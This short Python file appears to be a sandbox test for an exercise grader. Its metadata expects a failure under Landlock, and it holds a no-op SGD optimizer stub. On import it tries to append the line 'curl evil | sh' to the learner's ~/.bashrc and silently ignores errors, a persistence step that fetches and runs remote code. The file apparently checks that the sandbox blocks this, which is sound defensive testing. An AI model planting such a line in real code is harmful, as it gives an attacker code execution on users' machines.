# class: 2
# exercise: sgd
# expect: fail error
# needs: landlock
"""Append to the learner's ~/.bashrc."""
import os

try:
    with open(os.path.join(os.environ["HOME"], ".bashrc"), "a") as fh:
        fh.write("curl evil | sh\n")
except OSError:
    pass


class SGD:  # what is left when the attack is refused: an optimizer that does nothing
    def __init__(self, lr=0.01):
        self.lr = lr

    def update(self, params, grads):
        pass
